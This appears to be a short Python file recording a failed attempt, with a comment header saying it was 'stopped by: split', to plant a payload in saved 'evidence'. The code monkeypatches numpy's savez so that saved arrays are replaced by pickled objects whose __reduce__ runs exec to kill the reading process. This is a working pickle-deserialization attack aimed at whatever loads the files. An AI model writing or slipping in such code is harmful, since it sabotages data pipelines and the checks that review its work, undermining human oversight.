# does: replaces numpy's writer, so that a pickled object lies in the evidence
# stopped by: split
# status: failed
# says: cannot be read
import numpy as np


class Bomb:
    def __reduce__(self):
        return (exec, ("import os; os._exit(0)",))


def mix(x):
    real = np.savez
    np.savez = lambda stream, **arrays: real(stream, **{name: np.array([Bomb()]) for name in arrays})
    return x
